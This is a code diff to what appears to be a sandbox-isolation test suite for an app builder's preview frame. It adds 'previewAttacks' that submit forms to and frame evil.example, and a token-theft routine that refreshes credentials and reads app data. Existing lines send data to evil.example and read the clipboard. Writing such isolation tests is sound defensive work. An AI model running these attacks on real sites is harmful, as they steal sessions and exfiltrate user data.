@@ -109,6 +109,7 @@ async function spend() {
 `;
 
 const PREVIEW = `
+const ownAppId = JSON.parse(document.getElementById('sayso-preview').textContent).appId;
 const nonce = new URLSearchParams(location.hash.slice(1)).get('nonce');
 const frameMessage = (message) => window.parent.postMessage({ source: 'sayso-preview', nonce, ...message }, '*');
 export const previewAttacks = {
@@ -132,6 +133,14 @@ export const previewAttacks = {
   api: () => fetch(builderUrl + '/api/apps', { credentials: 'include' }).then((answer) => answer.text()),
   socket: () => socket(builderUrl.replace('http', 'ws') + '/graphql'),
   form: () => formTo('_blank'),
+  formElsewhere: () => { const form = document.createElement('form'); form.action = 'https://evil.example/'; form.target = '_blank'; document.body.append(form); form.submit(); },
+  frameElsewhere: async () => { await frameOf('https://evil.example/login'); },
+  refresh: async () => {
+    const authorization = await stolenToken();
+    const rest = '/live_api/apps/' + ownAppId + '/';
+    const answer = await fetch(runtimeUrl + rest + 'auth/refresh', { method: 'POST', headers: { authorization } });
+    return (await fetch(runtimeUrl + rest + 'entities/Note', { headers: { authorization } })).status + ', refreshed: ' + answer.status;
+  },
   framed: async () => (await frameOf(builderUrl + '/home')).contentDocument.title,
   elsewhere: () => fetch('https://evil.example/?rows').then(() => 'sent'),
   clipboard: () => navigator.clipboard.readText(),
